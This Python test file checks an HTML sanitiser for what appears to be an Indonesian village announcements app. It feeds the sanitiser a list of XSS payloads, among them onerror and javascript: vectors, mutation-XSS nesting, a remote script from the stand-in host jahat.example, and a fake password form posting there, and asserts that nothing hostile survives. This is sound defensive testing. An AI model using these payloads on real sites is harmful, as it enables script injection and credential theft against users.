import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from announcements import rich_text

PICTURE = "/berkas/" + "a" * 64 + "/rapat.jpg"

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//jahat.example/x.js></ScRiPt>",
    '<img src=x onerror="alert(1)">',
    f'<img src="{PICTURE}" onerror="alert(1)">',
    '<img src="https://jahat.example/pelacak.gif">',
    '<img src="//jahat.example/pelacak.gif">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    f'<img src="/berkas/{"a" * 64}/../../admin/keluar/">',
    "<img alt='x\" src=\"https://jahat.example/' src=y>",
    '<a href="javascript:alert(1)">klik</a>',
    '<a href=" jav&#x0A;ascript:alert(1)">klik</a>',
    '<a href="data:text/html,<script>alert(1)</script>">klik</a>',
    '<a href="vbscript:x" onclick="alert(1)">klik</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="https://jahat.example/"></iframe>',
    "<style>body{display:none}</style>",
    '<p style="position:fixed">x</p>',
    '<div><form action="//jahat.example"><input name="sandi"><button>Kirim</button></form></div>',
    '<object data="x"></object><embed src="x">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<base href=//jahat.example><meta http-equiv=refresh content=0><link rel=stylesheet href=x>",
    "<!--><img src=x onerror=alert(1)>-->",
    '<p title="judul" lang="id" class="x" id="y" dir="rtl">x</p>',
    '<td><a href="https://contoh.example" target="_blank" rel="opener">x</a>',
]


class Seen(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str, str]] = []
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]


# What `shown` adds of its own.
FRAME = '<div class="table-scroll" tabindex="0">'
ADDED = {"rel", "loading", "width", "height"}


def assert_harmless(text):
    seen = Seen(text.replace(FRAME, "").replace("</div>", ""))
    assert seen.tags <= rich_text._TAGS
    for tag, name, value in seen.attributes:
        assert name in rich_text._ATTRIBUTES.get(tag, set()) | ADDED
        if name == "src":
            assert re.fullmatch(r"/berkas/[0-9a-f]{64}/[^/]+", value)
        if name == "href":
            assert not re.match(r"\s*(javascript|data|vbscript)\s*:", value, re.IGNORECASE)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_nothing_hostile_survives(hostile):
    cleaned = rich_text.clean(f"<p>Sebelum</p>{hostile}<p>Sesudah</p>")

    assert_harmless(cleaned)
    assert_harmless(rich_text.shown(hostile))
    assert "Sebelum" in cleaned


@pytest.mark.parametrize(
    "kept",
    [
        "<h2>Waktu</h2><p>Pukul <strong>09.00</strong>, di <em>balai desa</em>.</p>",
        '<ul><li><p>Satu</p></li></ul><ol start="3"><li><p>Tiga</p></li></ol>',
        '<table><tbody><tr><th colspan="2">Acara</th></tr><tr><td>1</td><td>2</td></tr></tbody></table>',
        f'<figure><img src="{PICTURE}" alt="Rapat"><figcaption>Rapat</figcaption></figure>',
        "<blockquote><p>Sabda</p></blockquote><hr><p>a<br>b</p>",
    ],
)
def test_what_a_clerk_makes_stays(kept):
    assert rich_text.clean(kept) == kept


def test_links_of_everyday_schemes_stay_and_give_nothing_away():
    cleaned = rich_text.clean(
        '<a href="https://contoh.example/a?b=1&amp;c=2">a</a><a href="tel:+62281">b</a>'
    )

    assert 'href="https://contoh.example/a?b=1&amp;c=2"' in cleaned
    assert 'href="tel:+62281"' in cleaned
    assert cleaned.count('rel="noopener nofollow"') == 2


def test_an_empty_editor_is_an_empty_text():
    assert rich_text.clean("<p></p>") == ""
    assert rich_text.clean("<p> <br></p>") == ""


def test_plain_words_do_not_run_together():
    assert (
        rich_text.plain("<p>Satu</p><ul><li>dua</li><li>tiga &amp; empat</li></ul>")
        == "Satu dua tiga & empat"
    )


def test_a_picture_is_shown_with_its_size():
    class Stored:
        sha256, width, height, srcset = "a" * 64, 800, 600, "/kecil.webp 480w, /besar.jpg 800w"
        sources = (("image/avif", "/480.avif 480w"),)

    text = rich_text.shown(f'<figure><img src="{PICTURE}"></figure>', [Stored()])

    assert f'<img src="{PICTURE}" alt="" srcset="/kecil.webp 480w, /besar.jpg 800w" ' in text
    assert 'width="800" height="600" loading="lazy"></picture>' in text
    assert '<picture><source type="image/avif" srcset="/480.avif 480w" sizes="' in text
    assert rich_text.picture_hashes(text) == {"a" * 64}


fragments = st.sampled_from(
    [
        *HOSTILE,
        "<p>",
        "</p>",
        "<b",
        ">",
        '"',
        "'",
        "&amp;",
        "&lt;script&gt;",
        "<li>",
        "</table>",
        f"<img src={PICTURE}>",
        " x",
    ]
)


@given(st.lists(fragments | st.text(max_size=12), max_size=12).map("".join))
def test_cleaning_twice_changes_nothing_more(text):
    once = rich_text.clean(text)

    assert rich_text.clean(once) == once
    assert_harmless(once)
    assert_harmless(rich_text.shown(once))
